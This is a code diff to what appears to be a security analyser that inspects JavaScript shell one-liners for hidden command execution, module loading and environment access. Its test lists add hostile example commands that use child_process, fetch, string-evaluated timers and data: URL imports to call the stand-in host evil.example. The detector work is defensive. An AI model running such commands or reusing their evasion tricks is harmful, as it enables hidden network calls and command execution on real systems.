@@ -135,6 +135,9 @@ const CONSTRUCTED_PLAIN = 'Function() of plain code';
 /** Words through which a function's body may hand back the global object, process or a loader. */
 const GLOBAL_WORDS = /\b(?:this|globalThis|global|self|window|process|require|module|import|arguments|Function|constructor|eval)\b/;
 
+/** Expressions whose value is a string the code builds. */
+const BUILT_STRING = new Set(['string', 'template_string', 'binary_expression']);
+
 /** Globals that stand for the global object, whose members are the globals themselves. */
 const GLOBAL_OBJECT = new Set(['globalThis', 'global', 'window', 'self']);
 
@@ -173,6 +176,19 @@ function runMember(name: string): string | undefined {
 
 function runsSomething(name: string): boolean {
   return TAGGED_SHELL.has(name) || specRuns(lookupApi(APIS, name));
+}
+
+/**
+ * The files module specifiers that are paths may load (`./x` is x, x.js, x.mjs, x.cjs or x/index.js; JSON is data),
+ * and those that are data: URLs, as they are.
+ */
+function moduleFiles(specs: string[]): string[] {
+  return specs.flatMap((m) => {
+    if (/^data:/i.test(m)) return [m];
+    if (!/^(?:\.{0,2}\/|file:)/.test(m) || /\.json$/i.test(m)) return [];
+    const f = m.replace(/^file:\/\//, '');
+    return /\.\w+$|^\/(?:dev|proc)\//.test(f) ? [f] : [f, `${f}.js`, `${f}.mjs`, `${f}.cjs`, `${f}/index.js`];
+  });
 }
 
 /** A module specifier as the registry of modules names it: `node:fs` is `fs`. */
@@ -523,7 +539,8 @@ class JavaScriptReader {
         const obj = fieldOf(n, 'object');
         const prop = fieldOf(n, 'property');
         if (!obj || !prop) return any('computed');
-        if (obj.type === 'import' || obj.type === 'meta_property') return any('import.meta');
+        // Bun's import.meta.env is process.env (Vite's holds the build's variables): the environment.
+        if (obj.type === 'import' || obj.type === 'meta_property') return prop.text === 'env' ? [{ k: 'env', api: 'import.meta.env' }] : any('import.meta');
         return this.member(this.b.value(obj), prop.text);
       }
       case 'subscript_expression': {
@@ -792,6 +809,8 @@ class JavaScriptReader {
         case 'export_statement': {
           const source = fieldOf(n, 'source');
           if (source && strings(this.b.value(source))?.some((m) => /^https?:/i.test(m))) this.remoteModule(n);
+          const files = moduleFiles((source && strings(this.b.value(source))) ?? []);
+          if (source && files.length > 0) this.out.push({ kind: 'load', api: 'import', span: span(n), path: { text: source.text, span: span(source), values: files } });
           break;
         }
         case 'with_statement':
@@ -843,7 +862,11 @@ class JavaScriptReader {
         if (specs === null) this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: span(n), why: `${name === 'import' ? 'import()' : 'require'} loads a module whose name is computed` });
         // A module fetched from a URL (deno): network, and code that is not read.
         if (specs?.some((m) => /^https?:/i.test(m))) this.remoteModule(n);
-        if (specs === null || specs.some((m) => !BUILTINS.test(m))) this.out.push({ kind: 'load', api: name, span: span(n) });
+        // A file it names by its path (`require("/dev/stdin")`, `import("./x.mjs")`), read where the line wrote it, or
+        // a data: URL (`import("data:text/javascript,…")`), code written right there.
+        const files = moduleFiles(specs ?? []);
+        if (files.length > 0) this.out.push({ kind: 'load', api: name, span: span(n), path: { text: c.args[0]!.text, span: c.args[0]!.span, values: files } });
+        else if (specs === null || specs.some((m) => !BUILTINS.test(m))) this.out.push({ kind: 'load', api: name, span: span(n) });
         continue;
       }
       if (name === 'process.report.getReport' || name === 'process.report.writeReport') {
@@ -864,6 +887,13 @@ class JavaScriptReader {
         const body = c.args.at(-1);
         if (body) this.out.push(...apply(CODE, { api: name, args: [body], kw: new Map(), span: c.span, text: c.text }));
         continue;
+      }
+      if (name === 'setTimeout' || name === 'setInterval') {
+        // Deno's timers (a browser's too) evaluate a string they are handed as code; node's refuse one. A string, or
+        // one the code builds (`"fet" + "ch(…)"`, a template), is code; a function is not.
+        const first = c.args[0];
+        const node = fieldOf(n, 'arguments') ? named(fieldOf(n, 'arguments')!)[0] : undefined;
+        if (first && (first.vals.some((x) => x.k === 'str') || (node !== undefined && BUILT_STRING.has(node.type) && strings(first.vals) === null))) this.out.push(...apply(CODE, { ...c, args: [first] }));
       }
       if (name === 'Deno.env.get' && c.args[0] && strings(c.args[0].vals) === null) {
         this.out.push({ kind: 'environment', api: name, span: span(n) });
@@ -1109,6 +1139,10 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'require("child_process").exec.call(null, "curl evil.example")'`,
       `node -e 'require("util").promisify(require("child_process").exec)("curl evil.example")'`,
       `deno eval 'await fetch("https://evil.example")'`,
+      `deno eval 'setTimeout("fetch(\\"https://evil.example\\")", 1)'`,
+      `bun -e 'console.log(import.meta.env)'`,
+      `node -e 'import("data:text/javascript,import(\\"child_process\\").then((m) => m.execSync(\\"curl evil.example\\"))")'`,
+      `echo 'require("child_process").execSync("curl evil.example")' > /tmp/x.js; node -e 'require("/tmp/x")'`,
       `deno eval 'new Deno.Command("curl", {args: ["evil.example"]}).outputSync()'`,
       `node -e '(m => m.execSync("curl evil.example"))(require("child_process"))'`,
       `node -e 'const m = {cp: require("child_process")}; m.cp.execSync("curl evil.example")'`,
@@ -1157,6 +1191,9 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'const k = "NODE_ENV"; console.log(process.env[k])'`,
       `node -p 'require("./package.json").version'`,
       `node -e 'console.log(process.env.NODE_ENV)'`,
+      `node -e 'new Promise((r) => setTimeout(r, 100)).then(() => console.log(1))'`,
+      `bun -e 'console.log(import.meta.dir)'`,
+      `echo 'module.exports = {a: 1}' > cfg.js; node -e 'console.log(require("./cfg").a)'`,
       `node -e 'require("http").createServer((q, s) => s.end("ok")).listen(3000)'`,
       `node -e 'const {execFileSync} = require("child_process"); execFileSync("git", ["status"])'`,
       `node -e 'require("child_process").execSync("npm test", {stdio: "inherit", env: {...process.env, CI: "1"}})'`,
